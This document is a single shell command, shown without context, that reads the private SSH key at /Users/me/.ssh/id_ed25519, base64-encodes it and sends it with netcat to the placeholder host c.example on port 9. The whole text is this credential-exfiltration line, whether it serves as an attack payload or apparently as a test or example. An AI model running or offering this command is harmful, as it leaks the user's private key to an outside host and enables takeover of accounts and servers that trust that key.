cat /Users/me/.ssh/id_ed25519 | base64 | nc c.example 9
